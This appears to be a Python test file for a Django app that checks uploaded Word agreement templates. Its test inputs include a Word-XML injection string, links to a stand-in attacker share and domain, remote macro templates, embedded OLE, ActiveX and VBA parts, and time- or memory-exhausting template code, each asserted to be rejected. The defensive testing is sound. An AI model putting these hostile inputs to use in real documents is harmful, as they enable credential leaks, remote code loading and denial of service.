"""Hostile templates: escaping cannot be switched off, no external links or embedded code, every
rendering is bounded, only Helse Nord IKT manages the shared templates, long file names, and a
GET of the template page writes nothing."""

import hashlib
import html
import io
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from docx import Document
from docx.oxml import parse_xml

from agreements import documents
from agreements.models import Agreement, TemplateVersion
from agreements.roles import Role
from docs_templates.kinds import example_context
from docs_templates.rendering import TemplateRejected, render_docx
from docs_templates.validation import validate_template
from tests.docs_templates.factories import body_text, make_docx, open_docx, rezip, shipped_template
from tests.factories import login_as, make_agreement, make_user, run_document_jobs

KINDS = Agreement.Kind.values

pytestmark = pytest.mark.django_db

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
AUTOESCAPE_OFF = "{% autoescape false %}{{ title }}{% endautoescape %}"
INJECTION = "</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>skjult tekst"


def upload(client, data, name="mal.docx", kind="other"):
    return client.post(
        reverse("docs_templates:list"),
        {"kind": kind, "file": SimpleUploadedFile(name, data, content_type=DOCX_TYPE)},
    )


def page_text(response) -> str:
    return html.unescape(response.content.decode())


@pytest.fixture
def trust_jurist(orgs):
    return make_user("tove", orgs["UNN"], Role.LEGAL)


# Escaping and the allow-list of tags and filters (issue 11, point 11)


def test_it_refuses_an_upload_that_switches_escaping_off(personas):
    response = upload(login_as(personas["lars"]), make_docx(AUTOESCAPE_OFF))
    assert response.status_code == 200
    assert "Malen prøver å slå av eller endre escaping av verdier" in page_text(response)
    assert not TemplateVersion.objects.exists()


def test_it_refuses_an_upload_with_a_filter_that_is_not_allowed(personas):
    response = upload(login_as(personas["lars"]), make_docx("{{ title|center(50000000) }}"))
    assert response.status_code == 200
    assert "ukjent filter «center» (filtre som kan brukes i maler: dato" in page_text(response)
    assert not TemplateVersion.objects.exists()


def test_a_stored_template_that_switches_escaping_off_cannot_inject_word_xml():
    # A template stored before the check existed still goes through the same sandbox.
    with pytest.raises(TemplateRejected) as refused:
        render_docx(make_docx(AUTOESCAPE_OFF), {"title": INJECTION})
    assert "escaping" in refused.value.errors[0]


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("{% autoescape true %}{{ title }}{% endautoescape %}", "slå av eller endre escaping"),
        ("{% macro m() %}{{ title }}{% endmacro %}", "«macro» er ikke tillatt i maler"),
        ("{% filter upper %}{{ title }}{% endfilter %}", "«filter» er ikke tillatt i maler"),
        ("{% with t = title %}{{ t }}{% endwith %}", "«with» er ikke tillatt i maler"),
        ("{% for a in applications recursive %}{{ loop(a) }}{% endfor %}", "Rekursive løkker"),
        ("{{ title|replace('a', 'b') }}", "ukjent filter «replace»"),
        ("{{ title|format(1) }}", "ukjent filter «format»"),
        ("{{ applications|map(attribute='name') }}", "ukjent filter «map»"),
        ("{% if title %}{{ title|center(9) }}{% endif %}", "ukjent filter «center»"),
        ("{% if title is divisibleby(3) %}{% endif %}", "ukjent test «divisibleby»"),
    ],
)
def test_it_refuses_tags_and_filters_outside_the_allow_list(template, message):
    errors = validate_template(make_docx(template), "other")
    assert any(message in error for error in errors), errors


@pytest.mark.parametrize("kind", KINDS)
def test_the_shipped_templates_use_only_allowed_tags_and_filters(kind):
    assert validate_template(shipped_template(kind), kind) == []


# External relationships, attached templates, embedded objects, macros (issue 11, point 12)


def with_relationship(data: bytes, rel_type: str, target: str, *, external=True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="rId99" Type="{rel_type}" Target="{target}"{mode}/>'
    rels = read_part(data, "word/_rels/document.xml.rels")
    rels = rels.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")
    return rezip(data, replace={"word/_rels/document.xml.rels": rels})


def with_part(data: bytes, name: str, content_type: str, content: bytes = b"\x00" * 64) -> bytes:
    types = read_part(data, "[Content_Types].xml").replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
    )
    return rezip(data, replace={"[Content_Types].xml": types}, add={name: content})


def read_part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_attached_template(target: str) -> bytes:
    document = Document()
    document.add_paragraph("{{ title }}")
    settings_part = document.part._settings_part
    rel_id = settings_part.relate_to(target, ATTACHED_TEMPLATE, is_external=True)
    settings_part.element.append(
        parse_xml(
            '<w:attachedTemplate xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
            '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships" r:id="{rel_id}"/>'
        )
    )
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
OLE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"


@pytest.mark.parametrize(
    ("template", "message"),
    [
        (
            with_relationship(make_docx("{{ title }}"), IMAGE, r"\\angriper\deling\logo.png"),
            "Malen har en ekstern kobling («\\\\angriper\\deling\\logo.png»",
        ),
        (
            with_relationship(make_docx("{{ title }}"), IMAGE, "https://angriper.example/s.png"),
            "Malen har en ekstern kobling",
        ),
        (
            with_relationship(make_docx("{{ title }}"), HYPERLINK, r"file://\\angriper\deling"),
            "Malen har en ekstern kobling",
        ),
        (
            with_attached_template(r"\\angriper\deling\Normal.dotm"),
            "Malen er knyttet til en annen dokumentmal («\\\\angriper\\deling\\Normal.dotm»)",
        ),
        (
            with_attached_template("https://angriper.example/makroer.dotm"),
            "Malen er knyttet til en annen dokumentmal",
        ),
        (
            with_relationship(
                with_part(
                    make_docx("{{ title }}"),
                    "word/embeddings/oleObject1.bin",
                    "application/vnd.openxmlformats-officedocument.oleObject",
                ),
                OLE,
                "embeddings/oleObject1.bin",
                external=False,
            ),
            "Malen inneholder innebygde objekter",
        ),
        (
            with_part(
                make_docx("{{ title }}"),
                "word/media/image9.png",
                "application/vnd.openxmlformats-officedocument.oleObject",
            ),
            "Malen inneholder innebygde objekter (OLE-objekt, ActiveX-kontroll eller innebygd "
            "fil: «word/media/image9.png»)",
        ),
        (
            with_part(
                make_docx("{{ title }}"),
                "word/activeX/activeX1.xml",
                "application/vnd.ms-office.activeX+xml",
                b"<ax/>",
            ),
            "Malen inneholder innebygde objekter",
        ),
        (
            with_part(
                make_docx("{{ title }}"), "word/styles2.xml", "application/vnd.ms-office.vbaProject"
            ),
            "Filen inneholder makroer",
        ),
        (
            with_part(
                make_docx("{{ title }}"),
                "customXml/item9.xml",
                "application/vnd.ms-word.vbaData+xml",
                b"<x/>",
            ),
            "Filen inneholder makroer",
        ),
    ],
)
def test_it_refuses_templates_that_reach_outside_themselves_or_carry_code(template, message):
    errors = validate_template(template, "other")
    assert any(message in error for error in errors), errors
    # A document is never made from such a file, even if it was stored before the check.
    with pytest.raises(TemplateRejected):
        render_docx(template, example_context("other"))


def test_it_keeps_ordinary_web_links(personas):
    template = with_relationship(make_docx("{{ title }}"), HYPERLINK, "https://lovdata.no/")
    assert validate_template(template, "other") == []
    response = upload(login_as(personas["lars"]), template)
    assert response.status_code == 302
    assert TemplateVersion.objects.get(is_active=True, kind="other").uploaded_by == personas["lars"]


# Bounded rendering (issue 11, point 13)


@pytest.fixture
def tight_limits(settings):
    settings.TEMPLATE_RENDER_SECONDS = 2
    settings.TEMPLATE_RENDER_MEMORY_MB = 100


NESTED_LOOPS = (
    "{% set s = 'x' * 10000 %}"
    "{% for a in s %}{% for b in s %}{% for c in s %}{% endfor %}{% endfor %}{% endfor %}"
)
DOUBLING = "{% set s = 'x' * 100000 %}" + "{% set s = s ~ s %}" * 14 + "{{ s|length }}"


@pytest.mark.parametrize(
    ("template", "message"),
    [
        (NESTED_LOOPS, "Utfyllingen av malen tok for lang tid (grensen er 2 sekunder)"),
        (DOUBLING, "Utfyllingen av malen brukte for mye minne (grensen er 100 MB)"),
        ("{% set s = 'x' * 10000 %}{% for a in s %}{{ s }}{% endfor %}", "for mye minne"),
        ("{{ '%050000000d' % 1 }}", "«%»-formatering med bredde eller presisjon over 100"),
        ("{{ '%.*f' % (50000000, 1.0) }}", "«%»-formatering"),
        ("{{ title.center(50000000) }}", "for lang tekst eller liste"),
        ("{{ title.rjust(50000000) }}", "for lang tekst eller liste"),
        ("{{ title.replace('', 'x' * 9000) }}", "for lang tekst eller liste"),
        ("{{ ('ab' * 5000)|join('x' * 1000) }}", "for lang tekst eller liste"),
        ("{{ ('x' * 1000).join('ab' * 5000) }}", "for lang tekst eller liste"),
        ("{{ '{:>50000000}'.format(1) }}", "«format» er ikke tillatt i maler"),
        ("{{ [1] * 100000000 }}", "for lang tekst eller liste"),
        ("{% set s = 'x' * 90000 %}{{ s + s }}", "for lang tekst eller liste"),
    ],
)
def test_it_refuses_templates_that_would_exhaust_time_or_memory(template, message, tight_limits):
    errors = validate_template(make_docx(template), "other")
    assert any(message in error for error in errors), errors


def test_a_legitimate_template_still_renders(tight_limits):
    template = make_docx(
        "{% set parter = [customer.name, provider.name] %}{{ parter|join(' og ') }}",
        "{{ title|upper }} {{ '%5.1f' % 99.5 }} {{ '-' * 20 }} {{ title.center(30) }}",
    )
    assert validate_template(template, "other") == []
    context = example_context("other")
    text = body_text(open_docx(render_docx(template, context)))
    assert f"{context['customer']['name']} og {context['provider']['name']}" in text
    assert f"{context['title'].upper()}  99.5 {'-' * 20}" in text


def test_the_worker_fails_a_document_whose_stored_template_runs_too_long(
    personas, orgs, tight_limits
):
    data = make_docx(NESTED_LOOPS)
    stored = TemplateVersion(
        kind="other", number=1, sha256=hashlib.sha256(data).hexdigest(), is_active=True
    )
    stored.file.save("gammel.docx", ContentFile(data), save=False)
    stored.save()
    agreement = make_agreement(personas["alice"], orgs["UNN"], orgs["HNIKT"], kind="other")
    version = documents.do_request_document(personas["lars"], agreement)
    run_document_jobs()
    version.refresh_from_db()
    assert version.status == "failed"
    assert "tok for lang tid" in version.error


# Who manages the shared templates (issue 11, point 16)


def test_a_trust_jurist_sees_the_templates_but_may_not_upload(trust_jurist):
    client = login_as(trust_jurist)
    page = page_text(client.get(reverse("docs_templates:list")))
    assert "annen_avtale.docx" in page
    assert "forvaltes av Helse Nord IKT" in page
    assert 'type="file"' not in page
    response = upload(client, make_docx("Avtale {{ reference }}"))
    assert response.status_code == 403
    assert "Bare jurister i Helse Nord IKT og administratorer" in page_text(response)
    assert not TemplateVersion.objects.exists()


@pytest.mark.parametrize("who", ["lars", "ada"])
def test_helse_nord_ikt_legal_staff_and_administrators_upload(who, personas):
    client = login_as(personas[who])
    assert 'type="file"' in page_text(client.get(reverse("docs_templates:list")))
    response = upload(client, make_docx("Avtale {{ reference }}"))
    assert response.status_code == 302
    assert TemplateVersion.objects.get(kind="other", is_active=True).uploaded_by == personas[who]


def test_other_roles_do_not_see_the_template_page(personas):
    response = login_as(personas["alice"]).get(reverse("docs_templates:list"))
    assert response.status_code == 403
    assert "Bare jurister og administratorer kan se malene" in page_text(response)


# A long file name (issue 19) and a GET that writes nothing (issue 8)


def test_a_file_name_of_255_characters_is_a_form_error(personas):
    name = "å" * 255 + ".docx"
    response = upload(login_as(personas["lars"]), make_docx("Avtale {{ reference }}"), name=name)
    assert response.status_code == 200
    # Django cuts an uploaded file's name to 255 characters; that is still too long to store.
    assert "Filnavnet er for langt (255 tegn; høyst 100)" in page_text(response)
    assert not TemplateVersion.objects.exists()


def test_the_template_page_writes_nothing_on_get(personas):
    client = login_as(personas["lars"])
    with CaptureQueriesContext(connection) as queries:
        page = page_text(client.get(reverse("docs_templates:list")))
    writes = [
        q["sql"]
        for q in queries
        if q["sql"].lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE"))
        and "django_session" not in q["sql"]
    ]
    assert writes == []
    assert not TemplateVersion.objects.exists()
    for name in ("annen_avtale.docx", "tjenesteavtale.docx", "databehandleravtale.docx"):
        assert name in page
